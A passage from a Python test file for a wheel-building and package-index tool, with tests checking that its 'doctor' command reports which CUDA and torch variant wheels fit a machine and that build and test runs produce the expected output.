    index = f"{three_cells}cu130torch211/simple/"
    assert "torch      2.11.0+cu130, CUDA 13.0, cxx11 ABI" in done.stdout
    assert f"  pip install img2gray --extra-index-url {index}\n" in done.stdout
    assert f"  uv pip install img2gray --index {index}\n" in done.stdout
    report = json.loads(served_doctor(three_cells, torch_venv / "bin/python", three_cells,
                                      "--json").stdout)
    (package,) = report["packages"]
    assert package["fits"]["label"] == "cu130torch211" and package["misses"] == []
    # The command it prints resolves to that wheel with uv, against the served index (the
    # venv may hold the example already: other tests install it there).
    from uv import find_uv_bin

    command = package["fits"]["uv"].split()
    resolved = subprocess.run([find_uv_bin(), *command[1:], "--python", torch_venv / "bin/python",
                               "--reinstall-package", "img2gray", "--dry-run"],
                              capture_output=True, text=True,
                              env={**os.environ, "UV_CACHE_DIR": str(factory_cache / "uv")})
    assert resolved.returncode == 0, resolved.stderr
    assert "img2gray==1.0.0+cu130torch211" in resolved.stderr


@pytest.fixture(scope="module")
def cpu_torch_venv(tmp_path_factory):
    """A virtual environment with a CPU-only torch, as pip on this machine finds one."""
    venv = tmp_path_factory.mktemp("cpu") / "venv"
    subprocess.run([sys.executable, "-m", "venv", venv], check=True)
    done = subprocess.run([venv / "bin/python", "-m", "pip", "install", "--quiet",
                           "torch==2.13.0+cpu"], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"no CPU-only torch wheel is reachable here: {done.stderr.strip()[-200:]}")
    return venv


@pytest.mark.slow
def test_doctor_explains_every_miss_for_a_cpu_only_torch(three_cells, cpu_torch_venv):
    done = served_doctor(three_cells, cpu_torch_venv / "bin/python", three_cells, "img2gray")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "torch      2.13.0+cpu, no CUDA (a CPU build)" in done.stdout
    assert "img2gray: no wheel of the index fits this machine" in done.stdout
    cells = (("cu130torch211", "2.11", "13.0"), ("cu130torch212", "2.12", "13.0"),
             ("cu128torch210", "2.10", "12.8"))
    for label, torch, cuda in cells:
        assert re.search(
            rf"  img2gray-1\.0\.0\+{label}-\S+\.whl:\n"
            rf"    - it needs torch=={torch}\.\*, this Python has torch 2\.13\.0\+cpu\n"
            rf"    - it is built for CUDA {cuda}, and torch 2\.13\.0\+cpu is a build without "
            rf"CUDA\n", done.stdout), done.stdout


def test_bad_input_to_test_and_doctor_is_one_line(capsys, tmp_path):
    missing = factory_main("test", REPO / "matrix.yaml", "--out", tmp_path / "none",
                           capsys=capsys)
    assert missing.exit == 2 and "none" in missing.stdout + missing.stderr
    assert not (tmp_path / "none").exists()
    python = factory_main("doctor", "--python", tmp_path / "no-python", capsys=capsys)
    assert python.exit == 2
    assert len((python.stdout + python.stderr).strip().splitlines()) == 1


@pytest.mark.slow
def test_build_with_test_tests_what_it_built_or_kept(example_build, tmp_path, factory_cache):
    out = shutil.copytree(example_build[0], tmp_path / "index", symlinks=True)
    result = run_factory("build", "matrix.yaml", "--out", out, "--test", cwd=REPO,
                         env=cache_env(factory_cache))
    assert result.exit == 0, result.stdout + result.stderr
    assert "0 built, 1 unchanged" in result.stdout
    assert "8 passed, 0 failed, 6 skipped with no GPU" in result.stdout, result.stdout
    manifest = json.loads((out / ".factory" / "manifest.json").read_text())
    (cell,) = manifest["cells"].values()
    assert cell["tests"]["passed"] == 8 and cell["ops"][0]["fake"] is True
